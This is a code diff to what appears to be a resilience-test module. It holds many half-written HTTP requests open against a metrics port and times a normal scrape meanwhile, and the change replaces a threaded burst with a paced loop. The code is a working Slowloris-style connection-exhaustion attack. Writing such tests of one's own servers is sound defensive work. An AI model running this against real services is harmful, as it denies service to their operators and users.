@@ -3,24 +3,24 @@
 import contextlib
 import socket
 import time
-from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 
 from attacks.peer import SCORE, Peer, connected, grpc_message
 
-_OPENING_S = 6.0
-"""Time in which connections are opened."""
+_PACE_S = 0.005
+"""Time between two connections."""
 
 
 def half_requests(metrics_address: str, connections: int = 900, hold_s: float = 6.0) -> dict[str, Any]:
     """Half-written HTTP requests on the metrics port, held open; meanwhile one whole request."""
-    # All at once: a server whose backlog is short makes each connection wait for a second try.
-    with ThreadPoolExecutor(64) as pool:
-        until_s = time.monotonic() + _OPENING_S
-        held = [
-            each for each in pool.map(lambda _: _half_request(metrics_address, until_s), range(connections)) if each
-        ]
+    held: list[socket.socket] = []
     try:
+        for _ in range(connections):
+            with contextlib.suppress(OSError):
+                held.append(connected(metrics_address))
+                held[-1].sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\nX-Half: ")
+            # A backlog of five that overflows costs a second; it is connections that are to be many, not attempts.
+            time.sleep(_PACE_S)
         time.sleep(hold_s / 2)
         scraped_s = _scrape_s(metrics_address)
         time.sleep(hold_s / 2)
@@ -29,16 +29,6 @@ def half_requests(metrics_address: str, connections: int = 900, hold_s: float = 
         for each in held:
             each.close()
     return {"connections": len(held), "still_open": still_open, "scraped_s": scraped_s}
-
-
-def _half_request(address: str, until_s: float) -> socket.socket | None:
-    if time.monotonic() > until_s:
-        return None
-    with contextlib.suppress(OSError):
-        connection = connected(address, timeout_s=3)
-        connection.sendall(b"GET /metrics HTTP/1.1\r\nHost: a\r\nX-Half: ")
-        return connection
-    return None
 
 
 def _scrape_s(address: str) -> float | None:
